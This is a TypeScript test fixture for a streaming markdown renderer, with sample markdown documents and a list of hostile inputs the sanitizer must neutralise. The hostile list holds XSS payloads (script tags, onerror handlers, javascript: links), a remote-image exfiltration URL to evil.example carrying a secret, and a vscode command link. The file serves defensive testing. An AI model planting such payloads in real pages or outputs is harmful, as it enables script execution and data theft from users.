import { prng } from '../../../support/prng';

export { prng };

/** Cuts `text` into chunks of 1..`max` characters. */
export function randomChunks(text: string, random: () => number, max = 12): string[] {
  const chunks: string[] = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + Math.floor(random() * max);
    chunks.push(text.slice(at, at + size));
    at += size;
  }
  return chunks;
}

const fence = '```';

/** Markdown documents for the streamed-equals-one-shot tests: each a shape models produce. */
export const documents: Record<string, string> = {
  prose: `Streaming markdown must not cost O(n²). This paragraph is plain prose with **bold**, *emphasis*, ~~strike~~ and a [link](https://example.com/docs "Docs").

A second paragraph follows, with a hard break  
after two spaces, and an autolink https://example.org/path?q=1 plus www.example.net and mail@example.com.

Third paragraph, longer: ${'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(6)}
`,
  'nested lists': `Shopping:

- fruit
  - apples
  - pears
    - conference
    - williams
- vegetables
  1. carrots
  2. leeks

- loose item after a blank line

  with a second paragraph
- last
`,
  'ordered list digit by digit': `Steps:

1. one
2. two
3. three
4. four
5. five
6. six
7. seven
8. eight
9. nine
10. ten
11. eleven
12. twelve

Done.
`,
  'paragraph that becomes a list': `Intro line.

1. first

2

2. second after a bare 2

3) other delimiter
4) and again
`,
  tables: `| Name | Type | Default |
|------|:----:|--------:|
| \`foo\` | string | \`"a"\` |
| bar | number | 42 |
| baz \\| pipe | boolean | false |

Text between tables.

a | b
--|--
1 | 2
3 | 4
`,
  'block quotes': `> A quote with **bold**
> continued
lazily continued line

> Second quote
>
> - a list in a quote
> - another

> > nested quote
> back to one level

After the quotes.
`,
  headings: `# Title

Intro.

## Section *one*

Setext heading
==============

Another setext
--------------

### Closed heading ###
#### Four
##### Five
###### Six

Paragraph
then a setext underline
---

Not a heading: #hashtag
`,
  'code fences': `Here is code:

${fence}ts
export function add(a: number, b: number): number {
  return a + b;
}
${fence}

${fence}
no language
  indented inside
${fence}

~~~python
def hello():
    print("hi")  # a comment
~~~

${fence}${fence.slice(0, 1)}md
${fence}
a fence inside a longer fence
${fence}
${fence}${fence.slice(0, 1)}

Done with code.
`,
  'fences in lists': `1. Install:

   ${fence}bash
   npm install --save-dev esbuild

   npm run build
   ${fence}

2. Configure:

   ${fence}json
   { "splitting": true }
   ${fence}

3. Run it.

- bullet with code
  ${fence}js
  console.log(1);
  ${fence}
- next bullet
`,
  'inline code with backticks': `Use \`npm run check\` before committing. Double backticks: \`\` a \`tick\` inside \`\`.
Triple: \`\`\`not a fence\`\`\` in a line. Unclosed \`backtick stays literal.

Escaped \\\`not code\\\` and code with pipes \`a | b\`.
`,
  links: `Inline [link](https://example.com), [relative](./file.md), [unsafe](javascript:alert(1)),
[mail](mailto:someone@example.com), <https://example.com/autolink>, and [with title](https://example.com "T").

[**bold link**](https://example.com/bold) and a bare URL http://example.com/plain.
`,
  'reference links': `Reference style: [the docs][docs] and [again][docs], plus [missing][nope].

More text in between.

[docs]: https://example.com/docs "The docs"
`,
  footnotes: `A claim that needs a source.[^1] And another.[^note]

Some more prose.

[^1]: The source.
[^note]: A longer note.
`,
  'raw html': `Some <kbd>Ctrl</kbd>+<kbd>C</kbd> inline HTML, and <b>bold</b>.

<details>
<summary>Click</summary>

Hidden **markdown**.

</details>

<div onclick="alert(1)">a div</div>

After the HTML.
`,
  'unbalanced inline html': `This opens <em>emphasis and never closes it.

So this paragraph would be emphasised by the HTML parser.

<span>balanced</span> is fine.
`,
  'japanese and emoji': `# 日本語の見出し

これは日本語の段落です。句読点、「かぎかっこ」、そして絵文字 🎉🚀 を含みます。

- 項目一 ✅
- 項目二 ❌
- 家族の絵文字 👨‍👩‍👧‍👦 と国旗 🇯🇵

| 列 | 値 |
|---|---|
| 猫 | 🐱 |

> 引用文です。😀
`,
  mermaid: `Here is a diagram:

${fence}mermaid
graph TD
  A[Start] --> B{Is it?}
  B -->|Yes| C[OK]
  B -->|No| D[End]
${fence}

And a broken one:

${fence}mermaid
graph TD INVALID
  A -->
${fence}

Text after.
`,
  'unclosed fence at end': `Answer:

${fence}python
for i in range(10):
    print(i)
`,
  'task lists': `- [x] done
- [ ] todo
- [ ] another with \`code\`

1. [x] ordered task
`,
  'thematic breaks': `Above

---

Between

***

_ _ _

* * *

Below
`,
  'indented code': `Paragraph.

    indented code
    more code

        deeper

Back to text.
`,
  images: `![a cat](https://example.com/cat.png "Cat") and ![](https://example.com/noalt.png)

![data image](data:image/png;base64,iVBORw0KGgo=) ![local](./img.png)
`,
  'math stays text': `Inline math $E = mc^2$ and display:

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$

Prices like $5 and $10 stay too.
`,
  'tabs and spaces': `-\ttab after bullet
\tindented with a tab

\`\`\`
\tcode with tab
\`\`\`

1.  two spaces
    continuation
`,
  'crlf line endings': 'Windows\r\nline endings\r\n\r\n- a\r\n- b\r\n\r\n```\r\ncode\r\n```\r\n',
  'long fence': `${fence}${fence}js
// four backticks
const s = \`${fence}\`;
${fence}${fence}

Back.
`,
  'mixed answer': `## Summary

The bug is in \`parse()\`: it re-reads the buffer. Fix:

${fence}diff
- const data = read(buf);
+ const data = read(buf.subarray(offset));
${fence}

### Why

1. The offset was ignored.
2. Each call read from 0.

| before | after |
|---|---|
| O(n²) | O(n) |

> Note: run \`npm test\` again.

That's all.
`,
  'headings without blank lines': `# One
text under one
## Two
text under two
${fence}
code right after
${fence}
# Three
`,
  'blank-line edge cases': `a


b
   
c
\t
d

  e indented two

 - list indented one
 - second


 3. ordered indented
`,
  'emphasis across chunks': `***strong emphasis*** and __underscores__ and _single_ and *single* and **unclosed

Next paragraph with snake_case_words and 2*3*4 math.
`,
  'escapes and entities': `Escapes: \\*not em\\* \\# \\[x\\] \\\\ backslash. Entities: &amp; &lt;tag&gt; &copy; &#169; &#xA9; &nbsp;x.

AT&T and a & b.
`,
  'setext after lists': `- item
- item

Heading after list
===

text
`,
  'fence inside quote': `> Quoted code:
>
> ${fence}js
> quoted();
> ${fence}
>
> After.

Outside.
`,
  'fences naming files and links to them': `Change [utils](src/utils.ts#L3) and src/b.ts:12:

${fence}ts src/utils.ts
export const a = 1;
${fence}

- in a list:

  ${fence}python title="lib/app.py"
  print(1)
  ${fence}

${fence}go
// cmd/main.go
package main
${fence}

~~~ sh   scripts/x.sh
echo hi
~~~
`,
};

/**
 * Hostile inputs, what must never appear in the rendered markup (tags and attributes, see
 * `markupOf`), and the text that must stay visible: raw HTML other than the allowed inline tags is
 * shown as literal text (webview/render/html-policy), so nothing runs and nothing is lost.
 */
export const hostile: Array<[name: string, text: string, forbidden: RegExp, visible?: string]> = [
  ['a script tag', 'hi <script>alert(1)</script>', /<script/i, 'hi <script>alert(1)</script>'],
  ['an event handler', '<b onmouseover="alert(1)">x</b>', /onmouseover/i, 'x'],
  ['a javascript: link', '[click](javascript:alert(1))', /javascript:/i, 'click'],
  ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', /href="data:|<script/i, 'click'],
  ['a markdown image to a remote host', '![x](https://evil.example/leak?secret=1)', /<img|src=/i],
  ['a raw img tag', '<img src=x onerror=alert(1)>', /<img|onerror/i, '<img src=x onerror=alert(1)>'],
  ['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe/i, '<iframe src="https://evil.example"></iframe>'],
  ['an svg with script', '<svg><script>alert(1)</script></svg>', /<svg|<script/i, '<svg><script>alert(1)</script></svg>'],
  ['a style tag', '<style>body{background:url(https://evil.example)}</style>', /<style|url\(/i, '<style>body{background:url(https://evil.example)}</style>'],
  ['a form', '<form action="https://evil.example"><input name=a></form>', /<form|<input/i, '<form action="https://evil.example"><input name=a></form>'],
  ['a class that dresses up as the app', '<span class="message-actions codicon">x</span>', /class=/i, '<span class="message-actions codicon">x</span>'],
  ['a javascript: link in a list', '- [x](javascript:alert(1))\n- y', /javascript:/i],
  ['a vscode: command link', '[run](command:workbench.action.terminal.new)', /command:/i, 'run'],
  ['an <image> tag (the parser makes it an img)', '<image src="https://evil.example/x?leak=1" onerror=alert(1)>', /<img|onerror|src=/i, '<image src="https://evil.example/x?leak=1" onerror=alert(1)>'],
  ['an uppercase IMG tag', '<IMG SRC="https://evil.example/y">', /<img|src=/i, '<IMG SRC="https://evil.example/y">'],
];

/**
 * The rendered markup without its text: each element as `<tag name="value" …>`. Literal text that
 * looks like a tag (`&lt;img onerror…`) is not markup and does not appear here.
 */
export function markupOf(root: Element): string {
  return Array.from(root.querySelectorAll('*'))
    .map((element) => `<${element.tagName.toLowerCase()}${Array.from(element.attributes, (a) => ` ${a.name}="${a.value}"`).join('')}>`)
    .join('');
}
